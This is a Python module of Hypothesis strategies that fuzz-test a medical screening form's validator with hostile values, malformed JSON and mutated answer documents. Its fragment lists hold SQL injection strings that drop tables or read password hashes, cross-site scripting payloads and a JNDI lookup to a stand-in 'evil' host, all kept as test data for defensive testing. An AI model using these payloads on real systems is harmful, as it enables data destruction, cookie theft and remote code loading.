"""Hypothesis strategies for hostile-input tests: hostile text and values, mutated answer
documents, valid documents built from the form table, and hostile import files.

Values too big to print in a falsifying example (a 5,000-digit number, an array nested
3,000 deep) are generated as :class:`Lazy` recipes and built with :func:`materialize` inside
the test, so Hypothesis can always report the input that failed.
"""

from __future__ import annotations

import copy
import functools
import json
import random
import sys
import unicodedata
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any

from hypothesis import strategies as st
from hypothesis.internal.charmap import CategoryName

from forms.definition import (
    MEDICATION_FIELD_MAX,
    MEDICATION_NAME_MAX,
    QUESTIONS,
    QUESTIONS_BY_CODE,
    Question,
)
from forms.models import Problem
from tests.conftest import SUBMITTED_AT, make_doc

# Characters the form refuses in text (validation._has_control_chars).
_REFUSED: tuple[CategoryName, ...] = ("Cc", "Cf", "Cs", "Co")

# --- properties of a rejection ------------------------------------------------------------


def assert_clear_rejection(problems: list[Problem]) -> None:
    """The properties of every rejection (the issue's "every rejection a clear message")."""
    assert isinstance(problems, list) and problems, "a rejection names at least one problem"
    for problem in problems:
        assert isinstance(problem, Problem), problem
        assert isinstance(problem.code, str) and problem.code.strip(), f"problem without a code: {problem!r}"
        assert len(problem.code) <= 60, f"problem code longer than 60 characters: {problem.code!r}"
        assert isinstance(problem.message, str) and problem.message.strip(), (
            f"problem without a message: {problem!r}")


def unprintable(text: str) -> list[str]:
    """Control, format, surrogate and private-use characters: they break a one-line message
    (newline), drive a terminal (ESC), reverse the rest of the line (RLO) or cannot be
    encoded at all (a lone surrogate). The zero-width joiner of emoji sequences is text, as
    the form itself treats it."""
    return [ch for ch in text if unicodedata.category(ch) in _REFUSED and ch != "\u200d"]


# --- hostile fragments --------------------------------------------------------------------

SQL = (
    "'; DROP TABLE screenings;--",
    "Robert'); DROP TABLE students;--",
    "\" OR 1=1 --",
    "1; DELETE FROM audit_log WHERE 1=1",
    "%' UNION SELECT password_hash FROM users --",
    "\\'; SELECT pg_sleep(10);--",
)
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "</textarea><b>bold</b>",
    "&lt;&amp;&#x27;",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil/a}",
)
MARKDOWN = (
    "[click me](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "**bold** _it_ `code`",
    "# heading\n---",
    "| a | b |",
)
# Text a patient could type that the form accepts (no control or format characters).
UNICODE_OK = (
    "Zoë Ørsted-Łukasz", "שלום", "مرحبا بك", "日本語のテキスト", "Ελληνικά", "кириллица",
    "👩‍⚕️💊", "🏳️‍🌈", "\U0001F600", "\U00010348", "𝔁𝓪𝓷𝓪𝔁", "ｘａｎａｘ", "Z̷̢͓a̸l̶g̵o̵",
    "Straße", "ﬁnn", "İstanbul", "ǅemal", "e\u0301", "\u2028", "\u00a0inner\u00a0",
)
# Format, private-use and surrogate characters: the form refuses them in text.
UNICODE_BAD = (
    "\u202eevil\u202c", "\u200b", "\ufeff", "\u2066isolate\u2069", "\U000E0041",
    "\ue000", "\U0010FFFD", "\ud800", "\udfff", "a\udc80b",
)
CONTROL = ("\x00", "\x07", "\x1b[31mred\x1b[0m", "\r\n", "\n", "\t", "\x7f", "\x85", "\x1f", "\x08")
FRAGMENTS = SQL + HTML + MARKDOWN + UNICODE_OK + UNICODE_BAD + CONTROL


def refused_in_text(text: str, *, allow_newlines: bool = False) -> bool:
    """Whether the form refuses this text (``validation._has_control_chars``)."""
    for ch in text:
        if allow_newlines and ch in "\n\t":
            continue
        if unicodedata.category(ch) in _REFUSED and ch != "\u200d":
            return True
    return False


def repeat(fragment: str, times: int, limit: int | None = None) -> str:
    """A long string, printed as ``repeat('<script>', 2000)`` in a falsifying example."""
    return (fragment * times)[:limit]


def random_words(seed: int, length: int) -> str:
    """``length`` characters of word-like noise (deterministic for a seed)."""
    rnd = random.Random(seed)
    letters = "abcdefghijklmnopqrstuvwxyzéü0123456789"
    out: list[str] = []
    size = 0
    while size < length:
        word = "".join(rnd.choice(letters) for _ in range(rnd.randint(1, 12)))
        out.append(word)
        size += len(word) + 1
    return " ".join(out)[:length]


def hostile_text(*, max_repeat_chars: int = 10_000) -> st.SearchStrategy[str]:
    """Any text at all: fragments, random unicode (surrogates included), long strings."""
    fragment = st.sampled_from(FRAGMENTS)
    short = st.one_of(
        fragment,
        st.text(max_size=40),
        st.text(st.characters(codec=None, categories=("Cc", "Cf", "Cs", "Co", "Zs", "Zl", "Zp",
                                                    "Mn", "So", "Lo")), max_size=20),
        st.lists(fragment, min_size=2, max_size=5).map("".join),
        st.sampled_from(("", " ", "   ", "\u3000", "null", "None", "undefined", "NaN", "0", "-1",
                         "true", "[]", "{}", "yes ", " yes", "YES", "Yes")),
    )
    long = st.builds(repeat, st.one_of(fragment, st.sampled_from(("a", "x ", "é", "💊"))),
                     st.integers(1, max_repeat_chars), st.just(max_repeat_chars))
    return st.one_of(short, short, short, long)


# --- values too big to print ----------------------------------------------------------------

@dataclass(frozen=True)
class Lazy:
    """A value built at use: ``kind`` is huge_int, nested_list or nested_dict."""

    kind: str
    size: int

    def build(self) -> Any:
        if self.kind == "huge_int":
            return 10 ** self.size + 7
        value: Any = [] if self.kind == "nested_list" else {}
        for _ in range(self.size):
            value = [value] if self.kind == "nested_list" else {"a": value}
        return value


def materialize(value: Any) -> Any:
    """Replace every :class:`Lazy` in a JSON-like value by what it stands for."""
    if isinstance(value, Lazy):
        return value.build()
    if isinstance(value, dict):
        return {k: materialize(v) for k, v in value.items()}
    if isinstance(value, list):
        return [materialize(v) for v in value]
    return value


lazies = st.one_of(
    st.builds(Lazy, st.just("huge_int"), st.one_of(st.integers(4_300, 6_000), st.just(10_000))),
    st.builds(Lazy, st.sampled_from(("nested_list", "nested_dict")),
              st.one_of(st.integers(50, 3_000), st.sampled_from((200, 999, 1_000, 2_000, 3_000)))),
)

# --- hostile values -------------------------------------------------------------------------

_ANSWER_VALUES = tuple(sorted({o.value for q in QUESTIONS for o in q.options}))
near_misses = st.one_of(
    st.sampled_from(_ANSWER_VALUES),  # a value of some other question
    st.sampled_from(_ANSWER_VALUES).map(str.upper),
    st.sampled_from(_ANSWER_VALUES).map(lambda v: f" {v} "),
    st.sampled_from(("12", "1e3", "0x10", "١٢", "½", "02/04/1990", "1990-02-30", "1990-04-02T00:00",
                     "2999-01-01", "1800-01-01", "1990-4-2", "+1990-04-02", "1990-04-02\n",
                     "١٩٩٠-٠٤-٠٢", "０１２３-04-02", "0000-00-00", "9999-12-31", "true", "false")),
    st.dates().map(date.isoformat),
    st.lists(st.sampled_from(_ANSWER_VALUES), max_size=4),
)
numbers = st.one_of(
    st.integers(),
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from((0, -1, 2**31, 2**63, -(2**63) - 1, 10**300, 1e308, -0.0, 0.5, 199.99999,
                     float("nan"), float("inf"), float("-inf"))),
    st.integers(300, 4_000).map(lambda n: 10**n),
)
scalars = st.one_of(st.none(), st.booleans(), numbers, hostile_text(max_repeat_chars=3_000),
                    near_misses)
hostile_keys = st.one_of(
    st.text(max_size=80),
    st.sampled_from(FRAGMENTS),
    st.sampled_from(tuple(QUESTIONS_BY_CODE)).map(lambda c: c.upper()),
    st.sampled_from(tuple(QUESTIONS_BY_CODE)).map(lambda c: f"{c} "),
    st.sampled_from(("", " ", "__proto__", "constructor", "answers", "form_version", "medications[0]",
                     "first_name.x", "x" * 500)),
)
hostile_values = st.one_of(
    st.recursive(scalars, lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(hostile_keys, inner, max_size=4),
    ), max_leaves=4),
    lazies,
)

# --- mutated documents ----------------------------------------------------------------------

ENVELOPE_KEYS = ("form_version", "answers", "submitted_at")
MED_FIELDS = ("name", "dose", "frequency", "status")

BASES: dict[str, dict[str, Any]] = {
    "clean": make_doc(),
    "medications": make_doc(meds=["Xanax 0.5mg prn", "Lamictal 100 mg"], past=["Klonopin"]),
    "male": make_doc(sex_at_birth="male"),
    "blood_pressure": make_doc(high_blood_pressure="yes", blood_pressure_controlled="yes",
                               systolic_bp=150, diastolic_bp=95, height_cm=170, weight_kg=120),
    "thyroid_contact": make_doc(thyroid_disease="underactive", thyroid_treated="no",
                                allergies="penicillin (rash)", phone="+1 555 123 4567",
                                email="ann@example.com"),
    "teen_intersex": make_doc(sex_at_birth="intersex", pregnant="unsure", reasons=[],
                              heart_conditions=["heart_failure", "stroke_or_tia"],
                              date_of_birth="2010-01-01", meds=["Percocet"], past=["Ambien"]),
    "hostile_text": make_doc(first_name="Zoë", last_name="O'Brien-Łukasz",
                             signature_name="zoë  o'brien-łukasz",
                             allergies="<script>alert(1)</script>\n'; DROP TABLE screenings;--"),
}

submitted_at_values = st.one_of(
    st.builds(
        lambda moment, minutes: moment.replace(
            tzinfo=timezone(timedelta(minutes=minutes))).isoformat(),
        st.datetimes(), st.integers(-1439, 1439),
    ),
    st.sampled_from(("9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "2026-11-21T14:00:00",
                     "2026-13-01T00:00:00Z", "2026-11-21", "now", "", "2026-11-21T14:00:00+25:00",
                     "9999-12-31T23:59:59.999999Z", "1970-01-01T00:00:00Z")),
    st.integers(-(2**63), 2**63),
    hostile_values,
)

medication_items = st.one_of(
    st.fixed_dictionaries(
        {"name": st.one_of(hostile_text(max_repeat_chars=400), st.sampled_from(("Xanax", "Lamictal")))},
        optional={"dose": st.one_of(hostile_text(max_repeat_chars=200), hostile_values),
                  "frequency": st.one_of(hostile_text(max_repeat_chars=200), hostile_values),
                  "status": st.one_of(st.sampled_from(("current", "past", "CURRENT", "stopped", "")),
                                      hostile_values)},
    ),
    st.dictionaries(st.one_of(st.sampled_from(MED_FIELDS), hostile_keys), hostile_values, max_size=5),
    hostile_values,
)

mutations = st.one_of(
    st.tuples(st.just("drop_answer"), st.sampled_from(tuple(QUESTIONS_BY_CODE))),
    st.tuples(st.just("set_answer"), st.sampled_from(tuple(QUESTIONS_BY_CODE)), hostile_values),
    st.tuples(st.just("set_answer"), st.sampled_from(tuple(QUESTIONS_BY_CODE)), near_misses),
    st.tuples(st.just("add_answer"), hostile_keys, hostile_values),
    st.tuples(st.just("drop_envelope"), st.sampled_from(ENVELOPE_KEYS)),
    st.tuples(st.just("set_envelope"), st.sampled_from(("form_version", "answers")), hostile_values),
    st.tuples(st.just("set_envelope"), st.just("submitted_at"), submitted_at_values),
    st.tuples(st.just("set_envelope"), hostile_keys, hostile_values),
    st.tuples(st.just("set_medications"), st.lists(medication_items, max_size=6)),
    st.tuples(st.just("set_medications"), st.integers(61, 80).map(lambda n: [{"name": "x",
                                                                              "status": "past"}] * n)),
    st.tuples(st.just("set_med_field"), st.integers(0, 2), st.sampled_from((*MED_FIELDS, "extra")),
              hostile_values),
    st.tuples(st.just("wrap_answers"), hostile_keys),
    st.tuples(st.just("flatten_answers")),
)
def _mutate(doc: dict[str, Any], op: tuple) -> Any:
    kind = op[0]
    answers = doc.get("answers") if isinstance(doc.get("answers"), dict) else None
    if kind == "drop_answer" and answers is not None:
        answers.pop(op[1], None)
    elif kind in ("set_answer", "add_answer") and answers is not None:
        answers[op[1]] = materialize(op[2])
    elif kind == "drop_envelope":
        doc.pop(op[1], None)
    elif kind == "set_envelope":
        doc[op[1]] = materialize(op[2])
    elif kind == "set_medications" and answers is not None:
        answers["medications"] = materialize(op[1])
    elif kind == "set_med_field" and answers is not None:
        meds = answers.get("medications")
        if isinstance(meds, list) and op[1] < len(meds) and isinstance(meds[op[1]], dict):
            meds[op[1]][op[2]] = materialize(op[3])
        else:
            answers["medications"] = [{"name": "Xanax", "status": "current", op[2]: materialize(op[3])}]
    elif kind == "set_every_med_field" and answers is not None:
        for med in answers.get("medications") or []:
            if isinstance(med, dict):
                med[op[1]] = materialize(op[2])
    elif kind == "wrap_answers":
        doc["answers"] = {op[1]: doc.get("answers")}
    elif kind == "flatten_answers" and answers is not None:
        doc.update(doc.pop("answers"))
    return doc


def apply_mutations(base: str | dict[str, Any], ops: list[tuple]) -> Any:
    """The hostile document: ``base`` (a document or a name in BASES) with ``ops`` applied."""
    doc = copy.deepcopy(BASES[base] if isinstance(base, str) else base)
    for op in ops:
        doc = _mutate(doc, op)
    return doc


@st.composite
def mutated_documents(draw: st.DrawFn, *, max_ops: int = 4,
                      mild: bool = False) -> tuple[str, list[tuple]]:
    """(name of a base document, mutations): build it with ``apply_mutations``.

    The bases are a few valid documents covering the branches; valid documents of every
    shape are generated by ``valid_documents`` (much slower to draw). ``mild`` mixes in
    changes that keep a document valid (hostile free text, optional answers dropped), so
    that about half of the documents are accepted.
    """
    base = draw(st.sampled_from(tuple(BASES)))
    hostile = st.lists(mutations, min_size=1, max_size=max_ops)
    if mild:
        return base, draw(st.one_of(st.lists(mild_mutations, max_size=max_ops), hostile))
    return base, draw(hostile)


# --- valid documents ------------------------------------------------------------------------

SUBMITTED = datetime.fromisoformat(SUBMITTED_AT.replace("Z", "+00:00")).astimezone(UTC)
REFERENCE = SUBMITTED.date()
OLDEST_BIRTH = date(REFERENCE.year - 120, REFERENCE.month, REFERENCE.day)

_text_chars = st.characters(codec=None, exclude_categories=_REFUSED)


def _clean(text: str, limit: int) -> str:
    return text.strip()[:limit].strip()


@functools.cache
def valid_text(max_size: int, *, allow_empty: bool = False,
               newlines: bool = False) -> st.SearchStrategy[str]:
    """Text the form accepts as given: stripped, no control/format characters, hostile content."""
    pieces = st.one_of(
        st.text(_text_chars, min_size=1, max_size=20),
        st.sampled_from([f for f in (*SQL, *HTML, *MARKDOWN, *UNICODE_OK)
                         if not refused_in_text(f, allow_newlines=newlines)]),
        st.sampled_from(("\n", "\t", "\n\n")) if newlines else st.sampled_from((" ", "-", "'")),
    )
    strategy = st.lists(pieces, min_size=1, max_size=6).map("".join)
    strategy = st.one_of(strategy, st.builds(repeat, st.sampled_from(("ß", "ﬃ", "İ", "a", "💊", "<b>")),
                                             st.integers(1, max_size)))
    strategy = strategy.map(lambda t: _clean(t, max_size))
    if not allow_empty:
        strategy = strategy.filter(bool)
    return strategy


def _phone(plus: bool, digits: str, separator: str) -> str:
    groups = [digits[i:i + 3] for i in range(0, len(digits), 3)]
    return ("+" if plus else "") + separator.join(groups)


_phones = st.builds(_phone, st.booleans(), st.text("0123456789", min_size=7, max_size=15),
                    st.sampled_from((" ", "-", ".", "/", "")))
_label = st.from_regex(r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,10}[A-Za-z0-9])?", fullmatch=True)
_local = st.text(st.characters(codec=None, exclude_categories=(*_REFUSED, "Zs", "Zl", "Zp"),
                               exclude_characters="@"), min_size=1, max_size=64).filter(
    lambda s: not any(c.isspace() for c in s))
_emails = st.builds(lambda local, labels: f"{local}@{'.'.join(labels)}",
                    st.one_of(_local, st.sampled_from(("<script>", "o'brien", "a+b", "\"q\""))),
                    st.lists(_label, min_size=2, max_size=3))

_KNOWN_MEDS = st.sampled_from(("Xanax 0.5mg prn", "Lamictal", "sertraline 50 mg", "Zantac", "Klonopin",
                               "Claritin-D", "tramadol", "St John's wort", "levothyroxine"))
_medication = st.fixed_dictionaries({
    "name": st.one_of(_KNOWN_MEDS, valid_text(MEDICATION_NAME_MAX),
                      st.builds(lambda a, b: _clean(f"{a} {b}", MEDICATION_NAME_MAX), _KNOWN_MEDS,
                                valid_text(60))),
    "dose": valid_text(MEDICATION_FIELD_MAX, allow_empty=True),
    "frequency": valid_text(MEDICATION_FIELD_MAX, allow_empty=True),
    "status": st.sampled_from(("current", "past")),
})


def valid_medications(max_meds: int) -> st.SearchStrategy[list[dict[str, str]]]:
    return st.lists(_medication, max_size=max_meds)


def _multi(question: Question) -> st.SearchStrategy[list[str]]:
    def tidy(chosen: list[str]) -> list[str]:
        if "none" in chosen and len(chosen) > 1:
            chosen = [v for v in chosen if v != "none"]
        return [v for v in question.values if v in chosen]
    return st.lists(st.sampled_from(question.values), unique=True,
                    min_size=1 if question.required else 0).map(tidy)


def _answer_strategy(question: Question) -> st.SearchStrategy[Any]:
    if question.code == "date_of_birth":
        return st.dates(OLDEST_BIRTH + timedelta(days=1), REFERENCE).map(date.isoformat)
    if question.code == "phone":
        return _phones
    if question.code == "email":
        return _emails
    if question.type == "text":
        return valid_text(question.max or 1000, allow_empty=True, newlines=question.free_text)
    if question.type == "choice":
        return st.sampled_from(question.values)
    if question.type == "multi":
        return _multi(question)
    if question.type == "int":
        return st.integers(question.min, question.max)
    return st.just(True)  # bool: the two that must be ticked


# Answers that can be left out on their own (blood pressure goes in pairs).
_DROPPABLE = ("phone", "email", "reasons", "allergies", "heart_rate", "height_cm", "weight_kg")
# Changes after which a base document stays valid.
mild_mutations = st.one_of(
    st.tuples(st.just("set_answer"), st.just("allergies"),
              valid_text(1000, allow_empty=True, newlines=True)),
    st.tuples(st.just("drop_answer"), st.sampled_from(_DROPPABLE)),
    st.tuples(st.just("set_every_med_field"), st.sampled_from(("name", "dose", "frequency")),
              valid_text(100)),
)


# Drawn apart: names (the signature must match them), medications and blood pressure.
_SPECIAL = ("first_name", "last_name", "signature_name", "medications", "takes_no_medications",
            "systolic_bp", "diastolic_bp")
_ANSWERS = {q.code: _answer_strategy(q) for q in QUESTIONS if q.code not in _SPECIAL}
_ABSENT = object()
# An optional question is left out half of the time.
_MAYBE = {code: st.one_of(st.just(_ABSENT), strategy) if not QUESTIONS_BY_CODE[code].required
          else strategy for code, strategy in _ANSWERS.items()}
_blood_pressure = st.integers(30, 160).flatmap(
    lambda dia: st.tuples(st.integers(max(60, dia + 1), 260), st.just(dia)))


@st.composite
def valid_documents(draw: st.DrawFn, *, max_meds: int = 6) -> dict[str, Any]:
    """A document the form accepts: allowed values, branching respected, ranges kept.

    Values are already in the form's normal shape (stripped text, multi values in option
    order), so the validated answers equal the answers given.
    """
    answers: dict[str, Any] = {}
    first = draw(valid_text(100))
    last = draw(valid_text(100))
    for question in QUESTIONS:
        if question.code in _SPECIAL or (question.when is not None and not question.when.holds(answers)):
            continue
        value = draw(_MAYBE[question.code])
        if value is not _ABSENT:
            answers[question.code] = value
    answers["first_name"], answers["last_name"] = first, last
    signatures = [f"{first} {last}", f"{first}  {last}", f"{first} {last}".casefold()]
    answers["signature_name"] = draw(st.sampled_from([s for s in signatures if len(s) <= 201]))
    pressure = draw(st.one_of(st.none(), _blood_pressure))
    if pressure is not None:
        answers["systolic_bp"], answers["diastolic_bp"] = pressure
    meds = draw(valid_medications(max_meds))
    answers["takes_no_medications"] = not any(m["status"] == "current" for m in meds)
    if bool(meds) or draw(st.booleans()):
        answers["medications"] = meds
    return {"form_version": "1", "answers": answers, "submitted_at": SUBMITTED_AT}


# --- hostile files --------------------------------------------------------------------------

def to_json_bytes(value: Any, *, bom: bool = False, cut: int | None = None) -> bytes:
    """JSON text of a (hostile) value, optionally BOM-prefixed or cut at ``cut`` percent.

    Numbers of any size and deep nesting are written out as they are: the limits are lifted
    while writing, so the file holds exactly what a hostile sender could send.
    """
    digits, depth = sys.get_int_max_str_digits(), sys.getrecursionlimit()
    sys.set_int_max_str_digits(0)
    sys.setrecursionlimit(max(depth, 20_000))
    try:
        data = json.dumps(materialize(value), ensure_ascii=True).encode("ascii")
    finally:
        sys.set_int_max_str_digits(digits)
        sys.setrecursionlimit(depth)
    if cut is not None:
        data = data[: max(0, len(data) * cut // 100)]
    return (b"\xef\xbb\xbf" if bom else b"") + data


def deep_array(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def huge_number_document(digits: int) -> bytes:
    return (b'{"form_version": "1", "answers": {"alcohol_drinks_per_week": '
            + b"9" * digits + b"}}")


def _with_bad_byte(data: bytes, position: int, bad: bytes) -> bytes:
    position = position % (len(data) + 1)
    return data[:position] + bad + data[position:]


def base_json(name: str, bom: bool = False, cut: int | None = None) -> bytes:
    return to_json_bytes(BASES[name], bom=bom, cut=cut)


def mutated_json(name: str, ops: list[tuple]) -> bytes:
    return to_json_bytes(apply_mutations(name, ops))


_base_names = st.sampled_from(tuple(BASES))
hostile_json_bytes = st.one_of(
    st.builds(to_json_bytes, valid_documents(max_meds=2)),
    st.builds(mutated_json, _base_names, st.lists(mutations, min_size=1, max_size=3)),
    st.builds(base_json, _base_names, bom=st.just(True)),
    st.builds(base_json, _base_names, cut=st.integers(0, 99)),
    st.builds(_with_bad_byte, st.builds(base_json, _base_names), st.integers(0, 5000),
              st.sampled_from((b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x00"))),
    st.builds(deep_array, st.integers(1, 100_000)),
    st.builds(huge_number_document, st.integers(1, 6_000)),
    st.binary(max_size=200),
    st.sampled_from((b"", b" ", b"\n", b"null", b"[]", b"{}", b"NaN", b"-Infinity", b"\"text\"", b"[1, 2]",
                     b'{"form_version": "1", "answers": {"alcohol_drinks_per_week": NaN}}',
                     b"\xef\xbb\xbf", b"\xfe\xff\x00{", b"{\"a\": 1, \"a\": 2}")),
)
